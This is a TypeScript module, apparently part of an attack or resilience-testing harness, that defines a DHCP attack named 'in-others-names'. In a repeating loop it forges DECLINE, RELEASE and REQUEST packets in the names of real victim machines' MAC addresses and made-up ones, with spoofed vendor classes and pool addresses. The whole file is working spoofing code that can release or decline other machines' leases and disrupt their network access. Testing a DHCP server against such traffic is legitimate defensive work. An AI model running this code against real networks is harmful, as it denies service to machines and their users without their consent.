// DECLINE, RELEASE, and REQUEST with another model, in the names of real machines and for all addresses.
import { type Attack, again, oneOf } from '../attack.ts';
import { madeUpMac, packetOf, poolAddress, shout } from './packets.ts';

const PAUSE_MS = 100;
const AT_ONCE = 2;
const MODELS = ['rpi-3-b', 'coral-dev-board', 'pc-x86-32', 'nobodys-board'];

export const inOthersNames: Attack = {
  name: 'in-others-names',
  what: 'DHCP: DECLINE, RELEASE and REQUEST with other models, in the names of real machines',
  run: (ground, count) =>
    again(ground, PAUSE_MS, () => {
      for (let sent = 0; sent < AT_ONCE; sent += 1) {
        const mac = oneOf(ground, [...ground.victims, madeUpMac(ground)]);
        const messageType = oneOf(ground, ['decline', 'release', 'request'] as const);
        const packet = packetOf(ground, mac, {
          ...{ messageType, requestedAddress: poolAddress(ground) },
          ...{ serverIdentifier: ground.server, vendorClass: `walt.node.${oneOf(ground, MODELS)}` },
        });
        const { ciaddr } = messageType === 'release' ? { ciaddr: poolAddress(ground) } : packet;
        // In frames of one's own: a frame with the MAC of another machine makes the switch send to the wrong place.
        shout(ground, { ...packet, ciaddr }, ground.mac);
      }
      count(AT_ONCE);
    }),
};
